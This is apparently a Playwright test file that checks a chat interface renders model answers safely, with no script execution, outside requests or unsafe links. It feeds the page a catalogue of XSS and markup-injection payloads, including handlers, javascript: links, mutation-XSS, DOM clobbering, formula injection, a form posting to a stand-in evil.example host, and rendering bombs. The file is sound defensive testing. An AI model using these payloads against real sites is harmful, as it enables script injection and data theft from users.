"""Whatever a model writes stays text: nothing runs, nothing is fetched, nothing posts, no link leads to a script."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

pytest.importorskip("playwright.sync_api", reason="the page is driven by the package playwright")

from playwright.sync_api import expect

from tests.web.fake_api import FakeApi, called, said, thought
from tests.web.steps import answers, open_page, say

if TYPE_CHECKING:
    from playwright.sync_api import Page

EVIL = "https://evil.example"
TEXTS = {
    "script": "<script>window.pwned = 1</script><script src=https://evil.example/x.js></script>",
    "handlers": "<img src=x onerror='window.pwned=1'><svg onload=window.pwned=1><body onpageshow=window.pwned=1>",
    "frames": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><object data=//evil.example></object>"
    "<embed src=//evil.example><base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "forms": "<form action=https://evil.example><input name=key><button>Go</button></form>",
    "styles": "<style>@import 'https://evil.example/a.css'; * { display: none }</style><p style='position:fixed'>x</p>"
    "<link rel=stylesheet href=https://evil.example/b.css>",
    "links": "[a](javascript:window.pwned=1) [b](JaVaScRiPt:window.pwned=1) [c](data:text/html,<script>1</script>) "
    "[d](vbscript:x) [e](\tjavascript:window.pwned=1) <javascript:window.pwned=1> [f](java&#115;cript:window.pwned=1) "
    "[g](file:///etc/passwd) [h](/v1/models) [i](https://evil.example/ok 'title') [j]: javascript:pwned=1\n\n[j]",
    "pictures": "![a](https://evil.example/a.png) ![b](data:image/svg+xml;base64,PHN2Zy8+) ![c](//evil.example/c.png)"
    "\n\n[![d](https://evil.example/d.png)](https://evil.example)\n\n![e][r]\n\n[r]: https://evil.example/e.png",
    "mutations": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=window.pwned=1>'>"
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "markup in code": "```html\n</code></pre><script>window.pwned=1</script>\n```\n\n"
    "`<img src=x onerror=window.pwned=1>`",
    "language": '```"><img/src=x/onerror=window.pwned=1>\nx\n```\n\n```python onload=alert(1)\nprint(1)\n```',
    "formula": "$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/f.png}$ "
    "$\\htmlStyle{position:fixed}{x}$ $\\url{javascript:pwned=1}$ $</span><img src=x onerror=window.pwned=1>$ "
    "$\\htmlData{x=1}{y}$",
    "bombs": "$\\def\\a{\\a\\a}\\a$ $\\frac{$ $$\\begin{matrix} 1 & 2$$ $\\left($ \\[ \\rule{1000000em}{1000000em} \\]",
    "nesting": ">" * 3000
    + " deep\n\n"
    + "- " * 400
    + "x\n\n"
    + "[" * 5000
    + "\n\n"
    + "**" * 3000
    + "\n\n"
    + "$" * 3001,
    "unclosed": "\\[\n" * 8000 + "\n\n" + "\\( \\[ $x $$" * 6000 + "\n\n" + "[" * 9000 + "`` ` " * 5000,
    "table": "\n".join(["|" + "|".join(f"c{i}" for i in range(60)) + "|", "|" + "---|" * 60] + ["|" + "x|" * 60] * 300),
    "clobbering": "<a id=app name=app></a><img name=getElementById><form id=document><input name=body></form>",
    "controls": "\u202e\u0000\ufffe\u200d<b>\u2028\u2029&lt;script&gt;&#60;script&#62;\x1b]8;;x\x07",
}
ALLOWED = re.compile(
    "a|b|blockquote|br|button|code|del|div|em|figcaption|figure|h[1-6]|hr|li|ol|p|pre|s|span|strong"
    "|table|tbody|td|th|thead|tr|ul|svg|path|line|g|math|semantics|annotation"
    "|m(row|i|o|n|text|space|sup|sub|subsup|frac|sqrt|over|under|style|padded|table|tr|td)"
)

INSPECT = """() => {
    const found = {tags: new Set(), handlers: [], links: [], pictures: 0, violations: window.violations};
    for (const element of document.querySelectorAll(".markdown *, .call pre *, .call h3 *, .bubble *")) {
        found.tags.add(element.localName);
        if (element.localName === "img") found.pictures += 1;
        for (const {name, value} of element.attributes) {
            if (name.startsWith("on") || name === "id" || name === "name" || name === "srcdoc" || name === "src")
                found.handlers.push(`${element.localName} ${name}=${value}`);
        }
        if (element.localName === "a") found.links.push([element.getAttribute("href"), element.rel, element.target]);
    }
    return {...found, tags: [...found.tags], pwned: window.pwned ?? null};
}"""


@pytest.mark.parametrize("name", TEXTS)
def test_nothing_runs_and_nothing_leaves(page: Page, api: FakeApi, name: str) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    page.add_init_script(
        "window.violations = []; document.addEventListener('securitypolicyviolation', "
        "(event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`))"
    )
    text = TEXTS[name]
    halves = [said(text[: len(text) // 2]), said(text[len(text) // 2 :])]
    api.answers = [[thought(text), *halves, called(0, text, text)], [said(text)]]
    open_page(page, api)
    say(page, text[:4000])
    page.locator(".reasoning summary").click()
    page.get_by_role("link", name="Status").click()  # and again, from what was kept
    page.go_back()
    expect(answers(page).last).to_be_attached()
    page.locator(".reasoning summary").click()
    page.wait_for_load_state("networkidle")

    found = page.evaluate(INSPECT)
    assert found["pwned"] is None
    assert found["handlers"] == []
    assert found["pictures"] == 0
    assert found["violations"] == []  # the sanitizer was first; the policy had nothing left to stop
    assert [tag for tag in found["tags"] if not ALLOWED.fullmatch(tag)] == []
    for href, rel, target in found["links"]:
        assert href.startswith((EVIL, "http://", "mailto:")), href
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    assert [url for url in requests if not url.startswith(f"{api.url}/")] == []


def test_the_policy_stops_what_a_sanitizer_might_miss(page: Page, api: FakeApi) -> None:
    open_page(page, api)
    assert page.evaluate("() => { try { document.body.innerHTML = '<b>'; return false } catch { return true } }")
    page.evaluate(
        "() => { const it = document.createElement('script'); it.append(document.createTextNode('window.pwned = 1'));"
        " document.body.append(it) }"
    )
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(f"() => fetch('{EVIL}').then(() => false, () => true)")
    page.evaluate(
        "() => { const it = document.createElement('p'); it.setAttribute('style', 'color: rgb(1, 2, 3)');"
        " it.className = 'it'; document.body.append(it) }"
    )
    assert page.evaluate("() => getComputedStyle(document.querySelector('.it')).color") != "rgb(1, 2, 3)"


def test_a_long_answer_stays_usable(page: Page, api: FakeApi) -> None:
    paragraph = "Some **bold** words, `code` and a [link](https://example.org).\n\n"
    api.answers = [[said(paragraph * 20) for _ in range(100)]]
    open_page(page, api)
    say(page, "Much")
    expect(answers(page).locator(".block")).to_have_count(2000)
    page.locator("#composer").fill("still here")
    expect(page.locator("#composer")).to_have_value("still here")
